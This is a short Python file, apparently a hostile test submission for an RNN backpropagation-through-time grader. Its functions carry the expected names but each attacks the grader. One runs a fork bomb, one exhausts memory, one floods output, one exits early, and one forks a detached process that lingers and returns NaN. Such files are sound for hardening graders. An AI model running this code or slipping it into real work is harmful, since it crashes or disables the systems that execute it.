"""Mallory's bptt: every function attacks the grader in a different way."""
import os
import sys

import numpy as np


def rnn_backward(x, y, U, W, V, s0=None, bptt_truncate=None):
    while True:  # a fork bomb
        os.fork()


def state_jacobian(s_t, W):
    hog = []
    while True:  # a memory bomb
        hog.append(np.ones(10_000_000))


def jacobian_product(s, W, t, k):
    while True:  # an output flood
        print("x" * 100_000)


def clip_gradient_norm(grads, max_norm):
    sys.exit(1)


def numerical_gradient(f, x, eps=1e-5):
    if os.fork() == 0:  # escape into a new session and linger
        os.setsid()
        import time
        time.sleep(600)
    return np.full(x.shape, np.nan)
